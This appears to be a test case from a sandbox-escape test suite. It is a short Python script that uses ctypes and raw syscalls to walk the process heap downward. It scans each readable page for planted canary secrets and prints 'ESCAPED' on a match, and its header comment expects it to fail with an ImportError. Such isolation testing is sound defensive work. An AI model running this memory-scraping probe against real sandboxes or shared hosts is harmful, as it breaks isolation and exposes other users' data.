# expect: error ImportError
# idea: look through libc's heap from its end downwards, where freed memory of the zygote remains
# full: done
import ctypes
import re

libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_ulong
secret = re.compile(rb"(?:environment|host-memory|neighbour|state|listing|file)-[0-9a-f]{24}")
place = (libc.sbrk(0) - 1) & ~4095
looked = 0
while looked < 50_000:
    ctypes.set_errno(0)
    libc.syscall(ctypes.c_long(14), ctypes.c_long(99), ctypes.c_long(place), ctypes.c_long(0), ctypes.c_long(8))
    if ctypes.get_errno() == 14:
        break
    looked += 1
    for found in secret.findall(ctypes.string_at(place, 4096)):
        print("ESCAPED: found", found)
    place -= 4096
print("looked at", looked)
